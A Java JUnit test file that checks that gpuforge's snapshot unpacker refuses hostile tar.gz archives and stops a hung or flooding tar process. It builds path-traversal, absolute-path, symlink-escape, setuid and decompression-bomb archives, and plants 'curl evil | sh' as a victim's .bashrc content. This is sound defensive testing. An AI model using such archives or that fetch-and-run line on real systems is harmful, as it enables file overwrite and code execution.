package io.gpuforge.host.snapshot;

import io.gpuforge.host.HostShell;
import io.gpuforge.host.ProbeException;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.gpuforge.testing.Tools;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code --sysroot snapshot.tar.gz} with an archive from someone else: whatever it holds, unpacking it
 * writes nothing outside its temporary directory, and an archive no {@code gpuforge snapshot} makes is
 * refused with what is wrong with it. tar is a real process that may hang or flood: it is stopped.
 */
class SnapshotArchiveTest {

    @TempDir
    Path dir;

    private Path victim;

    @BeforeEach
    void victim() throws Exception {
        victim = Files.createDirectories(dir.resolve("home/u"));
    }

    private static void sh(Path cwd, String script) throws Exception {
        Process p = new ProcessBuilder("sh", "-c", script).directory(cwd.toFile()).redirectErrorStream(true).start();
        String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(p.waitFor()).as(out).isZero();
    }

    private static void gzip(Path tar, Path gz) throws IOException {
        try (InputStream in = Files.newInputStream(tar); OutputStream out = new GZIPOutputStream(Files.newOutputStream(gz))) {
            in.transferTo(out);
        }
    }

    private List<Path> everythingUnder(Path p) throws IOException {
        List<Path> all = new ArrayList<>();
        try (Stream<Path> w = Files.walk(p)) {
            w.forEach(all::add);
        }
        return all;
    }

    private void assertRefused(Path archive, String why) throws Exception {
        assertThatThrownBy(() -> Snapshot.unpack(archive)).isInstanceOf(ProbeException.class).hasMessageContaining(why);
        assertThat(everythingUnder(victim)).containsExactly(victim);
    }

    @Test
    void absoluteMemberNamesAreRefused() throws Exception {
        Tools.require("tar", "tar");
        Files.writeString(dir.resolve("bashrc"), "curl evil | sh\n");
        sh(dir, "tar -cPf a.tar --transform='s,^.*bashrc$," + victim + "/.bashrc,' \"$PWD/bashrc\"");
        gzip(dir.resolve("a.tar"), dir.resolve("a.tar.gz"));
        assertRefused(dir.resolve("a.tar.gz"), "an absolute name: '" + victim + "/.bashrc'");
    }

    @Test
    void memberNamesThatClimbOutAreRefused() throws Exception {
        Tools.require("tar", "tar");
        Files.writeString(dir.resolve("x"), "x\n");
        String up = "../".repeat(30) + victim.toString().substring(1);
        sh(dir, "tar -cPf a.tar --transform='s,^x$," + up + "/x,' x");
        gzip(dir.resolve("a.tar"), dir.resolve("a.tar.gz"));
        assertRefused(dir.resolve("a.tar.gz"), "a name that climbs out with '..'");
    }

    @Test
    void aLinkToTheAdminsFilesIsRefused() throws Exception {
        Tools.require("tar", "tar");
        Path src = Files.createDirectories(dir.resolve("src/sys/class/block"));
        Files.createSymbolicLink(src.resolve("sda"), Path.of("../../../" + "../".repeat(20) + victim.toString().substring(1)));
        sh(dir.resolve("src"), "tar -czf ../a.tar.gz .");
        assertRefused(dir.resolve("a.tar.gz"), "holds a link /sys/class/block/sda -> ");
    }

    @Test
    void aFileWrittenThroughALinkOfTheArchiveStaysInside() throws Exception {
        Tools.require("tar", "tar");
        // member 1: sys/class/block/sda -> the victim; member 2: sys/class/block/sda/x, appended from a tree
        // where sda is a directory: unpacked naively, x lands in the victim's directory
        Path one = Files.createDirectories(dir.resolve("one/sys/class/block"));
        Files.createSymbolicLink(one.resolve("sda"), victim);
        Path two = Files.createDirectories(dir.resolve("two/sys/class/block/sda"));
        Files.writeString(two.resolve("x"), "owned\n");
        sh(dir, "tar -cf a.tar -C one ./sys/class/block/sda && tar -rf a.tar -C two ./sys/class/block/sda/x");
        gzip(dir.resolve("a.tar"), dir.resolve("a.tar.gz"));
        assertRefused(dir.resolve("a.tar.gz"), "could not be unpacked");
    }

    @Test
    void hardLinksDevicesAndFifosAreRefused() throws Exception {
        Tools.require("tar", "tar");
        Path src = Files.createDirectories(dir.resolve("src/sys/bus/pci/devices/0000:01:00.0"));
        // a FIFO as a sysfs attribute: the probe reading it would wait forever
        sh(src, "mkfifo vendor");
        sh(dir.resolve("src"), "tar -czf ../fifo.tar.gz .");
        assertRefused(dir.resolve("fifo.tar.gz"), "not a file, directory or symbolic link ('p')");

        Files.delete(src.resolve("vendor"));
        Files.writeString(src.resolve("device"), "0x2204\n");
        Files.createLink(src.resolve("vendor"), src.resolve("device"));
        sh(dir.resolve("src"), "tar -czf ../hard.tar.gz .");
        assertRefused(dir.resolve("hard.tar.gz"), "not a file, directory or symbolic link ('h')");
    }

    @Test
    void setIdBitsAndOwnersFromTheArchiveAreNotKept() throws Exception {
        Tools.require("tar", "tar");
        Path src = Files.createDirectories(dir.resolve("src/usr/sbin"));
        Files.writeString(src.resolve("update-initramfs"), "#!/bin/sh\nid\n");
        sh(dir.resolve("src"), "chmod 4777 usr/sbin/update-initramfs && tar -czf ../a.tar.gz --owner=12345 --group=12345 .");
        Path tree = Snapshot.unpack(dir.resolve("a.tar.gz"));
        try {
            Path f = tree.resolve("usr/sbin/update-initramfs");
            assertThat(Files.getAttribute(f, "unix:mode")).isEqualTo(0100600);
            assertThat(Files.getAttribute(f, "unix:uid")).isEqualTo(Files.getAttribute(tree, "unix:uid"));
        } finally {
            Snapshot.deleteTree(tree);
        }
    }

    @Test
    void anArchiveThatUnpacksToGigabytesIsRefusedBeforeUnpacking() throws Exception {
        Tools.require("tar", "tar");
        Path src = Files.createDirectories(dir.resolve("src/gpuforge"));
        sh(src, "truncate -s 300M dmesg.txt");
        sh(dir.resolve("src"), "tar -czf ../bomb.tar.gz .");
        assertThat(Files.size(dir.resolve("bomb.tar.gz"))).isLessThan(2L << 20);
        assertRefused(dir.resolve("bomb.tar.gz"), "unpacks to more than 256 MB");
    }

    @Test
    void aFileThatIsNotATarGzIsRefused() throws Exception {
        Files.writeString(dir.resolve("notes.txt"), "IOMMU Group 1 00:01.0 ...\n");
        assertRefused(dir.resolve("notes.txt"), "is not a .tar.gz");
    }

    // tar as a process that misbehaves: it is stopped, with every process it started

    private static final class FakeTar {
        final Path script;
        final Path pidFile;

        FakeTar(Path dir, String body) throws IOException {
            pidFile = dir.resolve("tar.pid");
            script = dir.resolve("tar");
            Files.writeString(script, "#!/bin/sh\necho $$ > '" + pidFile + "'\n" + body + "\n");
            Files.setPosixFilePermissions(script, PosixFilePermissions.fromString("rwx------"));
        }

        SnapshotArchive archive(Duration timeout) {
            return new SnapshotArchive(script.toString(), timeout);
        }

        void assertStopped() throws Exception {
            long pid = Long.parseLong(Files.readString(pidFile).strip());
            Optional<ProcessHandle> h = ProcessHandle.of(pid);
            h.ifPresent(p -> p.onExit().orTimeout(10, TimeUnit.SECONDS).join());
            assertThat(ProcessHandle.of(pid).map(ProcessHandle::isAlive)).as("tar %s still running", pid)
                    .isNotEqualTo(Optional.of(true));
        }
    }

    private Path honestArchive() throws Exception {
        Path root = Files.createDirectories(dir.resolve("snap/etc"));
        Files.writeString(root.resolve("hostname"), "pve1\n");
        sh(dir.resolve("snap"), "tar -czf ../honest.tar.gz .");
        return dir.resolve("honest.tar.gz");
    }

    @Test
    @Timeout(value = 2, unit = TimeUnit.MINUTES, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
    void aTarThatNeverExitsIsStoppedWhenItsTimeIsUp() throws Exception {
        Tools.require("tar", "tar");
        Path archive = honestArchive();
        FakeTar tar = new FakeTar(Files.createDirectories(dir.resolve("bin")),
                "echo 'tar: reading'\nwhile :; do sleep 1; done");
        assertThatThrownBy(() -> tar.archive(Duration.ofSeconds(1)).unpack(archive))
                .isInstanceOf(ProbeException.class).hasMessageContaining("tar did not finish within 1 s and was stopped");
        tar.assertStopped();
    }

    @Test
    @Timeout(value = 2, unit = TimeUnit.MINUTES, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
    void aTarThatWritesForeverIsStoppedAtTheOutputCap() throws Exception {
        Tools.require("yes", "coreutils");
        Path archive = honestArchive();
        FakeTar tar = new FakeTar(Files.createDirectories(dir.resolve("bin")), "yes 'tar: something is wrong'");
        assertThatThrownBy(() -> tar.archive(Duration.ofMinutes(5)).unpack(archive))
                .isInstanceOf(ProbeException.class).hasMessageContaining("tar printed more than");
        tar.assertStopped();
    }

    @Test
    @Timeout(value = 2, unit = TimeUnit.MINUTES, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
    void aTarThatHangsWhilePackingASnapshotIsStopped() throws Exception {
        FakeTar tar = new FakeTar(Files.createDirectories(dir.resolve("bin")), "while :; do echo packing; sleep 1; done");
        HostShell host = new HostShell() {
            @Override
            public String describe() {
                return "test";
            }

            @Override
            public Result run(String command, byte[] stdin, Duration timeout) {
                return new Result(0, "@@gpuforge-probe 1\n@@file /etc/hostname\n|pve1\n@@end\n@@done\n"
                        .getBytes(StandardCharsets.UTF_8), "");
            }

            @Override
            public void close() {
            }
        };
        assertThatThrownBy(() -> Snapshot.capture(host, false, dir.resolve("s.tar.gz"), tar.archive(Duration.ofSeconds(1))))
                .isInstanceOf(ProbeException.class).hasMessageContaining("tar did not finish within 1 s and was stopped");
        tar.assertStopped();
    }
}
